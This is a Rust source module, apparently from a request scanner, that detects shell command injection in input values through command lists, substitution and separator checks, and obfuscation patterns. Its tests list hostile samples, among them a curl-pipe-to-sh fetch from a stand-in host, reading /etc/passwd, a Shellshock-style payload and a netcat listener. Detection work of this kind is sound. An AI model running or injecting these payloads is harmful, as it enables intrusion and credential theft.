//! Shells: does a value end a command and begin another one, or have a shell work something out?
//!
//! A separator is not enough (`Tom; Jerry`): a command has to follow, and one that is also a word of English needs an
//! argument as commands have them, a path, an option or a number.

use super::{Kind, Payload, Place, Text, Weight};

/// Commands that are no words, in lower case and sorted.
const COMMANDS: &[&[u8]] = &[
    b"awk",
    b"bash",
    b"bcdboot",
    b"bitsadmin",
    b"busybox",
    b"certutil",
    b"chmod",
    b"chown",
    b"cmd",
    b"cmd.exe",
    b"csh",
    b"curl",
    b"dash",
    b"df",
    b"dig",
    b"dpkg",
    b"egrep",
    b"env",
    b"fgrep",
    b"gcc",
    b"grep",
    b"gunzip",
    b"gzip",
    b"hostname",
    b"ifconfig",
    b"ipconfig",
    b"kmod",
    b"ksh",
    b"ls",
    b"lsmod",
    b"lsof",
    b"lua",
    b"mkdir",
    b"mkfifo",
    b"mknod",
    b"nc",
    b"ncat",
    b"netcat",
    b"netstat",
    b"nmap",
    b"node",
    b"nslookup",
    b"openssl",
    b"passwd",
    b"perl",
    b"php",
    b"pip",
    b"powershell",
    b"printenv",
    b"printf",
    b"ps",
    b"pwd",
    b"python",
    b"python2",
    b"python3",
    b"rm",
    b"rmdir",
    b"rsync",
    b"ruby",
    b"scp",
    b"sed",
    b"sh",
    b"socat",
    b"ss",
    b"ssh",
    b"sudo",
    b"sysctl",
    b"systeminfo",
    b"tasklist",
    b"tcpdump",
    b"telnet",
    b"tftp",
    b"traceroute",
    b"uname",
    b"wc",
    b"wget",
    b"whoami",
    b"wmic",
    b"xargs",
    b"xterm",
    b"zsh",
];

/// Commands that are words of English as well.
const WORDS: &[&[u8]] = &[
    b"at", b"cat", b"cp", b"cut", b"date", b"dir", b"du", b"echo", b"exec", b"file", b"find", b"finger", b"ftp",
    b"groups", b"head", b"host", b"id", b"kill", b"last", b"less", b"ln", b"man", b"more", b"mount", b"mv", b"net",
    b"ping", b"route", b"set", b"sleep", b"sort", b"source", b"start", b"strings", b"tail", b"tar", b"tee", b"test",
    b"time", b"timeout", b"top", b"touch", b"type", b"ver", b"vi", b"vim", b"w", b"who",
];

/// Places in one value where a command may begin.
const BREAKS: usize = 16;

/// What a value tries in a shell.
pub(super) fn payload(text: &Text<'_>) -> Option<Payload> {
    let lower = text.lower;
    // A function that ends and goes on, as in a variable of the environment.
    if lower.trim_ascii_start().starts_with(b"()") && text.has(b"{") && text.has(b"}") && text.has(b";") {
        return Payload::sure(Kind::Command);
    }
    let waits = text.has(b"sleep") || text.has(b"ping") || text.has(b"timeout");
    let weight = substitution(text).into_iter().chain(sequence(text)).chain(oddities(text)).max()?;
    Some(Payload { waits, ..Payload::new(Kind::Command, weight) })
}

/// `$(command)`, `` `command` ``, `<(command)`.
fn substitution(text: &Text<'_>) -> Option<Weight> {
    let lower = text.lower;
    let opened = memchr::memmem::find_iter(lower, b"$(").chain(memchr::memmem::find_iter(lower, b"<("));
    for at in opened.take(BREAKS) {
        let inside = lower.get(at + 2..).unwrap_or_default();
        if is_command(inside, b')') != Command::None && memchr::memchr(b')', inside).is_some() {
            return Some(Weight::Sure);
        }
        // `$((1+1))`
        if inside.starts_with(b"(")
            && inside
                .iter()
                .skip(1)
                .take_while(|octet| !matches!(octet, b')'))
                .all(|octet| octet.is_ascii_digit() || b"+-*/ ".contains(octet))
        {
            return Some(Weight::Sure);
        }
    }
    // Backquotes set off code in text too, so the whole value has to be one, or a separator stands before.
    let mut quotes = memchr::memchr_iter(b'`', lower);
    if let (Some(start), Some(end)) = (quotes.next(), quotes.next()) {
        let before = lower.get(..start).unwrap_or_default().trim_ascii_end();
        let inside = lower.get(start + 1..end).unwrap_or_default();
        let is_joined =
            before.last().is_none_or(|octet| matches!(octet, b';' | b'|' | b'&' | b'=' | b'/' | b'.' | b'"' | b'\''));
        if is_joined && is_command(inside, b'`') != Command::None {
            return Some(Weight::Sure);
        }
    }
    None
}

/// A separator, and a command behind it.
fn sequence(text: &Text<'_>) -> Option<Weight> {
    let lower = text.lower;
    // User agents and the like are full of semicolons.
    let is_breaking = |octet: u8| match text.place {
        Place::Field | Place::Cookie => matches!(octet, b'|' | b'&' | b'\n'),
        _ => matches!(octet, b';' | b'|' | b'&' | b'\n' | b'\r'),
    };
    let breaks = lower.iter().enumerate().filter(|(_, octet)| is_breaking(**octet)).map(|(at, _)| at);
    let mut best = None;
    for at in breaks.take(BREAKS) {
        let rest = lower.get(at + 1..).unwrap_or_default();
        let rest = rest
            .get(
                rest.iter()
                    .take_while(|octet| matches!(octet, b' ' | b'\t' | b'|' | b'&' | b';' | b'(' | b'{' | b'!' | b'\n'))
                    .count()..,
            )
            .unwrap_or_default();
        match is_command(rest, b'\n') {
            Command::Runs => return Some(Weight::Sure),
            Command::Maybe => best = Some(Weight::Weak),
            Command::None => {}
        }
    }
    best
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Command {
    None,
    /// A command that is a word as well, without an argument.
    Maybe,
    Runs,
}

/// Whether a command begins here; `close` ends it.
fn is_command(text: &[u8], close: u8) -> Command {
    let text = text.trim_ascii_start();
    let ends = |octet: &u8| {
        matches!(
            octet,
            b' ' | b'\t' | b';' | b'|' | b'&' | b'<' | b'>' | b')' | b'}' | b'\n' | b'\r' | b'`' | b'#' | b','
        ) || *octet == close
    };
    let len = text.iter().position(ends).unwrap_or(text.len());
    let Some((word, rest)) = text.split_at_checked(len) else { return Command::None };
    // Quotes, backslashes and empty variables in a name are there to hide it.
    let mut name = [0; 24];
    let (mut at, mut hidden, mut skipping) = (0, false, false);
    for octet in word {
        match octet {
            b'\'' | b'"' | b'\\' | b'^' => hidden = true,
            b'$' => (hidden, skipping) = (true, true),
            octet
                if skipping
                    && (octet.is_ascii_alphanumeric() || matches!(octet, b'@' | b'*' | b'{' | b'}' | b'_' | b'!')) =>
            {
                // `$u`, `$@`: one character, or as far as braces go.
                skipping = *octet == b'{';
            }
            octet => {
                skipping = false;
                let Some(place) = name.get_mut(at) else { return path_command(word, rest) };
                *place = *octet;
                at += 1;
            }
        }
    }
    let name = name.get(..at).unwrap_or_default();
    // `.sh`: run in this shell.
    let name = name.strip_prefix(b".").unwrap_or(name);
    if COMMANDS.binary_search(&name).is_ok() {
        let argument = rest.trim_ascii_start();
        // `; ss` and `| ps` are abbreviations too.
        return if hidden || name.len() > 2 || is_end(argument, close) || is_argument(argument) {
            Command::Runs
        } else {
            Command::Maybe
        };
    }
    if WORDS.binary_search(&name).is_ok() {
        let argument = rest.trim_ascii_start();
        return match () {
            () if hidden || is_argument(argument) => Command::Runs,
            () if is_end(argument, close) => {
                if close == b'\n' {
                    Command::Maybe
                } else {
                    Command::Runs
                }
            }
            () => Command::None,
        };
    }
    path_command(word, rest)
}

/// `/bin/x`, `./x -y`
fn path_command(word: &[u8], _rest: &[u8]) -> Command {
    let is_binary = [&b"/bin/"[..], b"/usr/bin/", b"/sbin/", b"/usr/local/bin/", b"/usr/sbin/"]
        .iter()
        .any(|root| word.starts_with(root));
    if is_binary { Command::Runs } else { Command::None }
}

fn is_end(text: &[u8], close: u8) -> bool {
    text.first().is_none_or(|octet| *octet == close || matches!(octet, b';' | b'|' | b'&' | b'#' | b')' | b'}' | b'`'))
}

/// An argument as commands have them: an option, a path, a redirection, a variable, an address, a number at the end.
fn is_argument(text: &[u8]) -> bool {
    let word = text.split(|octet| octet.is_ascii_whitespace()).next().unwrap_or_default();
    match word {
        [b'-', next, ..] => next.is_ascii_alphanumeric() || *next == b'-',
        [b'/', next, ..] => next.is_ascii_alphanumeric() || matches!(next, b'?' | b'*'),
        [b'.', b'/' | b'.', ..]
        | [b'~', b'/', ..]
        | [b'$', b'{' | b'(' | b'_' | b'a'..=b'z', ..]
        | [b'>' | b'<' | b'%' | b'*', ..] => true,
        [b'a'..=b'z', b':', b'\\', ..] => true,
        [b'0'..=b'9', ..] => {
            let rest = text.get(word.len()..).unwrap_or_default().trim_ascii();
            rest.is_empty() || word.iter().filter(|octet| **octet == b'.').count() == 3
        }
        _ => memchr::memmem::find(word, b"/etc/").is_some() || memchr::memchr(b'\\', word).is_some(),
    }
}

/// Spellings that only serve to get a command past a filter.
fn oddities(text: &Text<'_>) -> Option<Weight> {
    let has = |part: &[u8]| text.has(part);
    if has(b"${ifs}")
        || has(b"$ifs")
        || has(b"/dev/tcp/")
        || has(b"/dev/udp/")
        || has(b"2>&1")
        || has(b"%comspec%")
        || has(b"powershell -")
        || has(b"powershell.exe")
        || has(b"cmd /c ")
        || has(b"cmd.exe /c")
    {
        return Some(Weight::Sure);
    }
    if globbed_path(text.lower) || braced(text.lower) || loops(text.lower) {
        return Some(Weight::Sure);
    }
    let start = text.lower.trim_ascii();
    // The value is a command with its arguments, or begins with a path to one.
    let whole = match is_command(start, b'\n') {
        Command::Runs => {
            let word = start.split(|octet| octet.is_ascii_whitespace()).next().unwrap_or_default();
            let argument = start.get(word.len()..).unwrap_or_default().trim_ascii_start();
            let is_hidden = word.iter().any(|octet| matches!(octet, b'\\' | b'$')) || word.starts_with(b"/");
            let has_argument = is_argument(argument)
                && !argument.starts_with(b"/")
                && !argument.first().is_some_and(u8::is_ascii_digit);
            match is_hidden {
                true => Some(Weight::Sure),
                false => has_argument.then_some(Weight::Weak),
            }
        }
        _ => None,
    };
    whole.map(|weight| if has(b"/etc/") || has(b" -e ") || has(b" -c ") { Weight::Sure } else { weight })
}

/// `/???/b??h`, `/etc/[p]asswd`, `/e*c/p*d`: paths that a shell completes.
fn globbed_path(lower: &[u8]) -> bool {
    lower.split(|octet| octet.is_ascii_whitespace() || matches!(octet, b'=' | b'"' | b'\'' | b',')).any(|word| {
        let is_path =
            word.first() == Some(&b'/') && !word.starts_with(b"//") && word.len() > 5 && !word.contains(&b'&');
        let mut segments = word.split(|octet| *octet == b'/').skip(1);
        let is_system =
            |segment: &&[u8]| [&b"etc"[..], b"bin", b"usr", b"sbin", b"var", b"tmp", b"dev"].contains(segment);
        let is_globbed = |segment: &[u8]| {
            segment.iter().filter(|octet| matches!(octet, b'?' | b'*')).count() >= 2
                || memchr::memchr(b'[', segment)
                    .is_some_and(|at| memchr::memchr(b']', segment.get(at..).unwrap_or_default()).is_some())
        };
        is_path
            && match (segments.next(), segments.next()) {
                (Some(first), Some(second)) => {
                    is_globbed(first) && second.iter().any(u8::is_ascii_alphanumeric)
                        || is_system(&first) && (is_globbed(second) || memchr::memchr2(b'?', b'*', second).is_some())
                }
                _ => false,
            }
    })
}

/// `{cat,/etc/passwd}`: braces that become a command.
fn braced(lower: &[u8]) -> bool {
    let Some(open) = memchr::memchr(b'{', lower) else { return false };
    let inside = lower.get(open + 1..).unwrap_or_default();
    let Some(comma) = memchr::memchr(b',', inside) else { return false };
    let name = inside.get(..comma).unwrap_or_default();
    !name.is_empty() && !name.contains(&b' ') && is_command(name, b'}') != Command::None && !inside.contains(&b':')
}

/// `FOR /D %a IN (...) DO`, `IF /I NOT EXIST c:\x`: the language of Windows' shell.
fn loops(lower: &[u8]) -> bool {
    if iterates(lower) {
        return true;
    }
    let mut words = lower.split(|octet| octet.is_ascii_whitespace()).filter(|word| !word.is_empty());
    match words.next() {
        Some(b"if") => {
            let first = words.next().unwrap_or_default();
            let (is_switch, first) =
                if first == b"/i" { (true, words.next().unwrap_or_default()) } else { (false, first) };
            let first = if first == b"not" { words.next().unwrap_or_default() } else { first };
            let subject = words.next().unwrap_or_default();
            match first {
                b"exist" => subject.iter().any(|octet| matches!(octet, b'\\' | b'/' | b'.')),
                b"errorlevel" | b"cmdextversion" => subject.iter().all(u8::is_ascii_digit) && !subject.is_empty(),
                b"defined" => {
                    lower.iter().any(|octet| matches!(octet, b'=' | b'%' | b'&'))
                        || words.next().is_some_and(|word| word == b"cmd")
                }
                _ => {
                    is_switch
                        && (subject == b"neq" || subject == b"equ" || memchr::memmem::find(first, b"==").is_some())
                }
            }
        }
        _ => false,
    }
}

/// `FOR`, options, a variable, `IN (set)`, `DO`.
fn iterates(lower: &[u8]) -> bool {
    let mut words = lower.split(|octet| octet.is_ascii_whitespace()).filter(|word| !word.is_empty());
    if !words.by_ref().take(8).any(|word| word == b"for") {
        return false;
    }
    let has_variable = words.by_ref().take(6).any(|word| word.len() > 1 && word.starts_with(b"%"));
    has_variable
        && words.next().is_some_and(|word| word.starts_with(b"in"))
        && memchr::memmem::find(lower, b"do ").is_some()
}

#[cfg(test)]
mod tests {
    use super::super::tests::kind;
    use super::super::{Kind, Weight};
    use super::*;

    #[test]
    fn lists_are_sorted() {
        assert!(COMMANDS.is_sorted() && WORDS.is_sorted());
    }

    #[test]
    fn what_runs() {
        for text in [
            "; ping -c 3 198.18.1.1",
            "| whoami",
            "a;cat /etc/passwd",
            "x && curl http://a.example/x | sh",
            "$(id)",
            "`id`",
            "() { :; }; /bin/bash -c id",
            "a|wg\\et http://x",
            "/???/b??h",
            "cat${IFS}/tmp/x",
            "{nc,-nlvp,777}",
            "& dir c:\\",
            "x; sleep 5",
            "127.0.0.1; ls -la",
        ] {
            assert_eq!(kind(text), Some((Kind::Command, Weight::Sure)), "{text}");
        }
    }
}
